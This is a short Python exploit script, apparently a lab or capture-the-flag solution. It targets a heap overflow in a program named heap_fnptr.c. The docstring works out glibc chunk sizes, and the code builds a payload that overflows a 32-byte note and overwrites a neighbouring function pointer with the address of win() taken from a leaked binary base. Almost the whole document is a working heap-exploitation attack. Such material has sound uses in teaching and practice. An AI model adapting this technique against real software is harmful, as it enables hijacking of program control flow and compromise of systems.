#!/usr/bin/env python3
"""Exploit for heap_fnptr.c: overflow the note into the printer's pointer.

From the source: malloc(32) then malloc(8). glibc rounds a request up to a
chunk of (request + 8) rounded to 16, at least 0x20: the note's chunk is
0x30 bytes, the printer's chunk follows it, and its function pointer is
0x30 bytes after the start of the note (its chunk's size field, 0x21,
sits 8 bytes before). From the binary: win()'s offset (nm). From the leak:
the binary's base. The payload rewrites the size field with its own value
and the function pointer with win's address.
"""
import attacker as a

NOTE_CHUNK = 0x30
PRINTER_SIZE_FIELD = 0x21

args = a.parse_args(__doc__)
win = a.symbols(args.binary)["win"]
layout = a.leak_layout(args)

payload = (b"A" * (NOTE_CHUNK - 8) + a.p64(PRINTER_SIZE_FIELD)
           + a.p64(layout.binary_base + win))
a.send(args.fifo, payload)
